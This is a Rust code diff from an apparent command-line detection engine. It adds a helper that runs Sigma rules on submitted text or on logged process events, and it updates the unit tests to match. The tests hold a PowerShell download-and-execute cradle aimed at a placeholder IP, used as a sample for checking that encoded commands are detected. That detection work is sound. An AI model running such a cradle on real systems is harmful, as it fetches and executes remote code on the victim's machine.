@@ -61,6 +61,36 @@ impl PayloadRules {
     }
 }
 
+/// Where a command line comes from, which decides where the rules run on it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RulesOn {
+    /// A text submitted on its own (`warden analyze`, `POST /v1/payload/analyze`, jobs):
+    /// nothing else matched it, so the rules run on it as written and on its decoded form.
+    Submitted,
+    /// A process event whose rule stage already matched it as logged (a hunt, a worker,
+    /// the service's pipeline): the rules run on the decoded form only, so one match is
+    /// one alert and no rule is judged on a made-up event in place of the real one.
+    Events,
+}
+
+/// The analyser for command lines of `origin`, with `rules` (when any) beside the
+/// signatures and `model`.
+pub fn analyzer(
+    model: Option<Arc<warden_payload::model::PayloadModel>>,
+    config: warden_payload::VerdictConfig,
+    rules: Option<&Arc<RuleSet>>,
+    origin: RulesOn,
+) -> warden_payload::Analyzer {
+    let a = warden_payload::Analyzer::new(model, config);
+    match (rules, origin) {
+        (None, _) => a,
+        (Some(set), RulesOn::Submitted) => a.with_source(Arc::new(PayloadRules::new(set.clone()))),
+        (Some(set), RulesOn::Events) => {
+            a.with_source(Arc::new(PayloadRules::on_decoded(set.clone())))
+        }
+    }
+}
+
 /// A level's weight: how strongly one rule match alone points at an attack.
 fn weight(level: Level) -> f32 {
     match level {
@@ -174,7 +204,7 @@ fn first_word(text: &str) -> Option<String> {
 mod tests {
     use super::*;
     use std::sync::Arc;
-    use warden_payload::{Analyzer, VerdictConfig};
+    use warden_payload::VerdictConfig;
     use warden_sigma::{Mapping, RuleSetBuilder};
 
     const RULE: &str = r"
@@ -211,13 +241,14 @@ tags:
         Arc::new(set)
     }
 
-    fn rules() -> Arc<PayloadRules> {
-        Arc::new(PayloadRules::new(rule_set()))
-    }
-
     #[test]
     fn a_rule_sees_the_decoded_command_the_original_hides() {
-        let a = Analyzer::new(None, VerdictConfig::default()).with_source(rules());
+        let a = analyzer(
+            None,
+            VerdictConfig::default(),
+            Some(&rule_set()),
+            RulesOn::Submitted,
+        );
         let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')";
         let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
         let text = format!(
@@ -240,8 +271,12 @@ tags:
 
     #[test]
     fn on_decoded_the_original_is_left_to_whoever_matched_the_event() {
-        let a = Analyzer::new(None, VerdictConfig::default())
-            .with_source(Arc::new(PayloadRules::on_decoded(rule_set())));
+        let a = analyzer(
+            None,
+            VerdictConfig::default(),
+            Some(&rule_set()),
+            RulesOn::Events,
+        );
         let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')";
         let sigma = |text: &str| -> Vec<usize> {
             a.analyze(text, Some(Shell::Powershell))
